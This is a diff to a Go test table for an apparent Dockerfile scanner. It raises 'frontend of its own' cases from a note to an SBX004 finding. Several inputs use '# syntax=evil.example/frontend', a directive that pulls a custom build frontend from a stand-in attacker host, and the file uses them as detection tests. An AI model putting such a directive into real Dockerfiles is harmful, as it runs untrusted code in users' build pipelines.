@@ -37,10 +37,10 @@ func dockerfiles() []Case {
 		{ID: "F13 twice", What: "escape directive twice", Input: func() Input { return text("# escape=`\n# escape=`\n" + base) }, Class: Partial, Want: "Dockerfile:2"},
 		{ID: "F13 bad", What: "escape directive of another character", Input: func() Input { return text("# escape=x\n" + base) }, Class: Partial, Want: "Dockerfile:1"},
 		{ID: "F13 backtick", What: "instruction that goes on by a backtick", Input: func() Input { return text("# escape=`\n" + base + "LABEL a=b `\n  c=d\n") }, Class: Plain},
-		{ID: "F14", What: "frontend of its own", Input: func() Input { return text("# syntax=evil.example/frontend\n" + base) }, Class: Note, Want: "Dockerfile:1 | frontend of its own", Evades: true},
+		{ID: "F14", What: "frontend of its own", Input: func() Input { return text("# syntax=evil.example/frontend\n" + base) }, Class: Finding, Want: "SBX004 | Dockerfile:1 | frontend of its own", Evades: true},
 		{ID: "F14 docker", What: "Docker's own frontend", Input: func() Input { return text("# syntax=docker/dockerfile:1\n" + base) }, Class: Plain},
 		{ID: "F14 JSON", What: "frontend of its own, in JSON", Input: func() Input { return text(`{"syntax":"evil.example/frontend"}` + "\n" + base) }, Class: Partial, Want: "Dockerfile:1", Evades: true},
-		{ID: "F14 program", What: "frontend of its own, below #!", Input: func() Input { return text("#!/bin/sh\n# syntax=evil.example/frontend\n" + base) }, Class: Note, Want: "frontend of its own", Evades: true},
+		{ID: "F14 program", What: "frontend of its own, below #!", Input: func() Input { return text("#!/bin/sh\n# syntax=evil.example/frontend\n" + base) }, Class: Finding, Want: "SBX004 | frontend of its own", Evades: true},
 		{ID: "F20", What: "15,000 lines", Input: func() Input { return F20(15000) }, Class: Plain},
 	}
 }
